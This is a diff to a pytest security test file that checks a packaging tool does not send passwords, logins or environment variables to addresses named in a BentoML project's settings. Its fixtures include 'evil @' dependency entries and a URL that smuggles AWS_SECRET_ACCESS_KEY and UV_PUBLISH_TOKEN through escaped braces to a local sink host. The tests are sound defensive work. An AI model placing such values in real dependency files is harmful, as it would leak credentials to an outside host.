@@ -90,8 +90,9 @@ INDEX = {
 }
 
 
-@pytest.mark.parametrize("form", INDEX)
-@pytest.mark.parametrize("spelling", URL)
+@pytest.mark.parametrize(
+    ("form", "spelling"), [*((form, "plain") for form in INDEX), *(("table", name) for name in URL)]
+)
 def test_a_password_for_a_name_is_not_sent_to_an_address_of_the_project(project, sink, form, spelling):
     setting = INDEX[form].format(URL[spelling].format(sink.host))
     text = PROJECT + BENTO + setting if form == "table" else setting + PROJECT + BENTO
@@ -137,6 +138,7 @@ def test_a_login_for_all_hosts_is_not_sent_to_a_host_of_the_project(project, sin
     assert not [request for request in sink.seen if "SECRET" in "".join(request)]
 
 
+BRACES = (r"\u007b", r"\U0000007b")
 VARIABLE = {
     "dependency": 'dependencies = ["bentoml==1.4.39", "evil @ {}"]\n',
     "extra": 'optional-dependencies.x = ["evil @ {}"]\ndependencies = ["bentoml==1.4.39"]\n',
@@ -149,8 +151,9 @@ VARIABLE = {
 }
 
 
-@pytest.mark.parametrize("brace", ["{", r"\u007b", r"\U0000007b"])
-@pytest.mark.parametrize("form", VARIABLE)
+@pytest.mark.parametrize(
+    ("form", "brace"), [*((form, "{") for form in VARIABLE), *(("source", text) for text in BRACES)]
+)
 def test_no_variable_is_sent_in_an_address(project, sink, form, brace):
     url = f"http://{sink.host}/$@AWS_SECRET_ACCESS_KEY}}/$@UV_PUBLISH_TOKEN}}/evil-1.0-py3-none-any.whl"
     head = PROJECT.partition("dependencies")[0]
